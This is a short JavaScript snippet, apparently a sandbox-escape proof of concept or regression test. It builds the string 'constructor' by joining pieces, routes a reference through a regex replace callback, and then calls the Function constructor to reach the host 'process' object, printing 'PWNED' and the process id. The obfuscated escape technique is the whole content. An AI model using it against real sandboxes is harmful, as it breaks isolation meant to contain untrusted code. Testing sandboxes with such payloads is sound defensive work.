'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
let kept;
'x'.replace(/x/, () => { kept = t; return ''; });
const o = Date.now() > 1 ? kept : {};
console.log('PWNED', o.go(fn)('return process')().pid);
